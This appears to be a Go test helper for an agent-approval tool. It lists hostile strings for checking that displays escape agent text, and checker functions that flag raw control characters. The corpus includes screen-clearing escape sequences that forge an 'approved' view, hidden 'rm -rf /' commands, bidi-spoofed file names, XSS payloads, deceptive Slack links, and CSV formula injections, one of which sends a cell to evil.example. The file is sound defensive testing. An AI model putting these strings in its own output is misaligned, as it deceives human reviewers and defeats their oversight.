// Package escapetest holds the hostile strings every surface that shows
// agent text is tested with, and the checks of what may come out, for the
// escape package's tests and the end-to-end tests of each surface.
package escapetest

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Hostile is one string an agent may choose, with a name that says what it
// tries.
type Hostile struct {
	Name string
	Text string
}

// FakeShow is a copy of the top of `airlock approvals show` with harmless
// arguments: what a terminal draws if an agent's reason clears the screen.
const FakeShow = "call      bot/tidy (revision 1)\ntool      demo__write_file\nagent     bot\nstate     pending\nrisk      low\nreason    tidying notes\narguments {\n            \"content\": \"- buy milk\",\n            \"path\": \"notes/todo.txt\"\n          }\n"

// Corpus is every hostile string, one per trick: terminal control
// (C0 and C1 controls, CSI and OSC sequences, an OSC 8 hyperlink, cursor
// save/restore, clear screen, carriage return, backspace), text that hides
// or reorders itself (bidi overrides and isolates, zero-width and other
// format characters, the combining grapheme joiner), markup (HTML, Slack
// mentions and links, mrkdwn formatting), a spreadsheet formula, invalid
// UTF-8, and a very long line.
var Corpus = []Hostile{
	{"clear_screen_and_draw_a_fake_show", "tidying notes\x1b8\x1b[J\x1b[H\x1b[2J" + FakeShow},
	{"cursor_save_restore", "ok\x1b7 hidden \x1b8done"},
	{"csi_colour_and_erase_line", "\x1b[31mred\x1b[0m\x1b[2K\x1b[1A"},
	{"osc_8_hyperlink", "\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07"},
	{"osc_window_title", "\x1b]0;airlock: approved\x1b\\"},
	{"c1_csi_and_osc", "a\u009b2Jb\u009d0;title\u009c"},
	{"carriage_return_overwrites", "rm -rf / \rls -la     "},
	{"backspaces_erase", "rm -rf /tmp/x\b\b\b\b\b\b\b\b\b\b\b\b\bls"},
	{"bell_and_nul_and_del", "a\x07b\x00c\x7fd"},
	{"right_to_left_override", "invoice\u202efdp.sh"},
	{"bidi_isolates", "\u2066admin\u2069 \u2067x\u2069 \u2068y\u2069"},
	{"zero_width_characters", "pay\u200bment\u2060s\ufeff"},
	{"combining_grapheme_joiner", "dry_run\u034f"},
	{"html_script", `<script>alert("airlock")</script>`},
	{"html_attribute_breaker", `" onmouseover="alert(1)" x='`},
	{"slack_channel_mention", "<!channel> <@U0ALICE> <!here>"},
	{"slack_link_with_lying_label", "<http://evil.example/|https://console.example/approve>"},
	{"slack_formatting", "*Approved* by _alice_ ~nobody~ `code` ```block```"},
	{"csv_formula", `=HYPERLINK("http://evil.example/?"&A1,"open")`},
	{"csv_formula_plus", "+cmd|' /C calc'!A0"},
	{"line_breaks_forge_lines", "fine\nstate     approved\r\nreason    x"},
	{"invalid_utf8", "a\xffb\xc3(c\xed\xa0\x80"},
	{"very_long_line", strings.Repeat("long line without a break ", 120) + "\x1b[2Jend"},
}

// Raw names every byte or rune in out that must never reach a terminal or
// any other surface as itself: C0 controls but line feed and tab (ESC,
// CR, BEL, NUL, backspace), DEL, C1 controls, bidi embeddings, overrides,
// isolates and marks, zero-width and other invisible format characters,
// the combining grapheme joiner, and bytes that are not UTF-8. It is
// written independently of the escape package, so that it checks it.
func Raw(out string) []string {
	var found []string
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			found = append(found, fmt.Sprintf("the byte %#x, not UTF-8, at %d", out[i], i))
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f, r >= 0x80 && r <= 0x9f,
			r >= 0x200b && r <= 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2060 && r <= 0x2069,
			r == 0xfeff, r == 0x034f, r == 0x061c:
			found = append(found, fmt.Sprintf("%U at %d", r, i))
		}
		i += size
	}
	return found
}

// RawLine is Raw, and a line feed or tab too: for what must stay on one
// line (a field of a table, a header).
func RawLine(out string) []string {
	found := Raw(out)
	if i := strings.IndexAny(out, "\n\t"); i >= 0 {
		found = append(found, fmt.Sprintf("a line break or tab at %d", i))
	}
	return found
}
